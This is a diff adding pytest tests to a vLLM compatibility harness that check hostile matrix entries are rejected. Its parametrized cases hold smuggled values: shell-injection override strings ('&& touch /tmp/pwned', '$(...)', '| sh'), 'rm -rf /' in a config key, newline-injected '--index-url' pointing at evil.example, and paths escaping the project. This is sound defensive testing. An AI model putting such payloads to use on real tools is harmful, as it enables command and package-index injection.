@@ -12,8 +12,10 @@ import xml.etree.ElementTree as ET
 from pathlib import Path
 
 import pytest
+from packaging.version import Version
 
-from kvcompat.cells import Cell
+from kvcompat.cells import MAX_RANGE_RELEASES, Cell, resolve_cells
+from kvcompat.matrix import MatrixError, load_matrix
 from kvcompat.outcomes import Outcome
 from kvcompat.report.model import build_report
 from kvcompat.report.write import write_reports
@@ -22,7 +24,16 @@ from kvcompat.run import integrity, lock
 from kvcompat.run.options import RunOptions
 from kvcompat.run.workflow import run_cell
 
-from helpers import REPO, build_project, make_result, one_line_error, run_nox
+from helpers import (
+    REPO,
+    IndexServer,
+    build_project,
+    build_wheel,
+    http_index,
+    make_result,
+    one_line_error,
+    run_nox,
+)
 
 SUITE = """
 from vllm.distributed.kv_transfer.kv_connector.v1.multi_connector import first_wins
@@ -306,6 +317,128 @@ def test_nox_matrix_on_an_edited_venv_is_one_line_and_exit_2(tmp_path):
     assert "edited: kv_connector/v1/multi_connector.py" in err and f"rm -rf {venv}" in err, err
     report = run_nox(project, "-s", "report")
     assert "install error" in report.stdout and "pass" not in report.stdout, report.stdout
+
+
+# -- 6. hostile matrix input --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "entry, needle",
+    [
+        # a wheel outside the project: by a relative path, an absolute one, or a symlink inside that points out
+        ("{ vllm = '../outside/vllm-0.0.1-py3-none-any.whl' }", "outside/vllm-0.0.1-py3-none-any.whl, outside the"),
+        ("{ vllm = '@OUTSIDE@' }", "outside the project"),
+        ("{ vllm = 'dist/link-0.0.1-py3-none-any.whl' }", "outside the project"),
+        # a wheel path that would be more than one line (or an option) in uv's requirements file
+        ('{ vllm = "dist/x\\n--index-url=http://evil.example/vllm-0.0.1-py3-none-any.whl" }', "has characters"),
+        ("{ vllm = 'dist/a b;c#vllm-0.0.1-py3-none-any.whl' }", "[' ', '#', ';']"),
+        # a .whl that is no wheel name, or another project's wheel
+        ("{ vllm = 'dist/vllm.whl' }", "is not a wheel file name"),
+        ("{ vllm = 'dist/torch-2.0.0-py3-none-any.whl' }", "is a wheel of torch, not of vllm"),
+        # TOML entries with unknown keys or wrongly typed ones
+        ("{ vllm = '0.33.0', command = 'rm -rf /' }", "unknown key(s) ['command']; allowed keys are"),
+        ("{ vllm = '0.33.0', pre = 'yes' }", "pre must be true or false, got 'yes'"),
+        # override lines with shell metacharacters: never a requirement, so never near uv
+        ("{ vllm = '0.34.0', overrides = ['x==1 && touch /tmp/pwned'] }", "is not a requirement"),
+        ("{ vllm = '0.34.0', overrides = ['x==1`touch /tmp/pwned`'] }", "is not a requirement"),
+        ("{ vllm = '0.34.0', overrides = ['x==1 | sh'] }", "is not a requirement"),
+        ("{ vllm = '0.34.0', overrides = ['x==1 $(touch /tmp/pwned)'] }", "is not a requirement"),
+        ('{ vllm = "0.34.0", overrides = ["x==1\\n--index-url http://evil.example"] }', "is not a requirement"),
+        ("{ vllm = '0.34.0', overrides = ['x==1; sys_platform != \"\"'] }", "must be a name and a version"),
+    ],
+)
+def test_hostile_matrix_entries_are_one_line_errors(tmp_path, entry, needle):
+    """Fault 6, harness: each hostile entry is refused when the matrix loads, in one line naming the fix."""
+    project, outside = tmp_path / "project", tmp_path / "outside"
+    for folder in (project / "dist", outside):
+        folder.mkdir(parents=True)
+    for name in (
+        "vllm.whl",
+        "torch-2.0.0-py3-none-any.whl",
+        "x\n--index-url=http:",
+        "a b;c#vllm-0.0.1-py3-none-any.whl",
+    ):
+        (project / "dist" / name).mkdir() if name.endswith(":") else (project / "dist" / name).write_bytes(b"")
+    wheel = build_wheel(outside, {"vllm/__init__.py": ""})
+    (project / "dist" / "link-0.0.1-py3-none-any.whl").symlink_to(wheel)
+    matrix = project / "m.toml"
+    matrix.write_text("[matrix]\ndefault = [" + entry.replace("@OUTSIDE@", str(wheel)) + "]\n")
+    with pytest.raises(MatrixError) as err:
+        load_matrix(matrix, project=project)
+    assert needle in str(err.value) and "\n" not in str(err.value), str(err.value)
+
+
+def test_a_range_matching_300_releases_is_refused_before_any_lookup(tmp_path):
+    """Fault 6, harness: a range over 300 releases is refused without asking the index for a single torch pin;
+    one within the bound expands, asking once per release."""
+    releases = [Version(f"0.{m}.{p}") for m in range(30) for p in range(10)]
+    asked: list[str] = []
+
+    def cells(spec: str):
+        return resolve_cells(
+            [load_matrix(write_matrix(tmp_path, f"{{ vllm = '{spec}' }}"))[0]],
+            constraints_dir=tmp_path,
+            cache_root=tmp_path,
+            available=lambda dist: releases,
+            pinned_torch=lambda cell: asked.append(cell.vllm) or "2.13.0",
+        )
+
+    with pytest.raises(MatrixError) as err:
+        cells(">=0")
+    assert f"vllm>=0 matches 300 releases (0.0.0 .. 0.29.9), more than the {MAX_RANGE_RELEASES} one range" in str(
+        err.value
+    )
+    assert "narrow it (e.g. >=0.25.0) or list the releases you mean" in str(err.value) and asked == []
+    assert len(cells(">=0.25.0")) == MAX_RANGE_RELEASES == len(asked)
+
+
+def write_matrix(folder: Path, entry: str) -> Path:
+    path = folder / "m.toml"
+    path.write_text(f"[matrix]\ndefault = [{entry}]\n")
+    return path
+
+
+def test_no_harness_command_goes_through_a_shell():
+    """Fault 6, harness: every command kvcompat runs is an argument list: no shell=True, os.system or os.popen,
+    and no subprocess call given one string, anywhere in the harness or the noxfile."""
+    import ast
+
+    found = []
+    for path in [REPO / "noxfile.py", *sorted((REPO / "src" / "kvcompat").rglob("*.py"))]:
+        for node in ast.walk(ast.parse(path.read_text())):
+            if not isinstance(node, ast.Call):
+                continue
+            name = ast.unparse(node.func)
+            where = f"{path.relative_to(REPO)}:{node.lineno}"
+            if any(
+                k.arg == "shell" and not (isinstance(k.value, ast.Constant) and not k.value.value)
+                for k in node.keywords
+            ):
+                found.append(f"{where} shell=")
+            if name in ("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"):
+                found.append(f"{where} {name}")
+            if name.startswith("subprocess.") and node.args and isinstance(node.args[0], (ast.Constant, ast.JoinedStr)):
+                found.append(f"{where} {name} with a string")
+    assert found == []
+
+
+@pytest.mark.slow
+def test_nox_on_a_300_release_range_is_one_line_and_exit_2(tmp_path):
+    """Fault 6, through real nox: an index of 300 (fake) vLLM releases and `vllm = ">=0"`: `nox -l` refuses in
+    one line, exit 2, within seconds (no cell is resolved)."""
+    import time
+
+    project = build_project(tmp_path / "proj", SUITE, versions=("0.0.1",))
+    folder = tmp_path / "index"
+    folder.mkdir()
+    wheels = [build_wheel(folder, {"vllm/__init__.py": ""}, version=f"0.{m}.{p}") for m in range(30) for p in range(10)]
+    http_index(folder, wheels)
+    (project / "m.toml").write_text('[matrix]\ndefault = [{ vllm = ">=0" }]\n')
+    t0 = time.monotonic()
+    with IndexServer(folder) as index:
+        proc = run_nox(project, "-l", env={"KVCOMPAT_MATRIX": str(project / "m.toml"), "UV_DEFAULT_INDEX": index.url})
+    err = one_line_error(proc)
+    assert "vllm>=0 matches 300 releases (0.0.0 .. 0.29.9)" in err and time.monotonic() - t0 < 60
 
 
 def paths_by_suffix(paths, *suffixes):
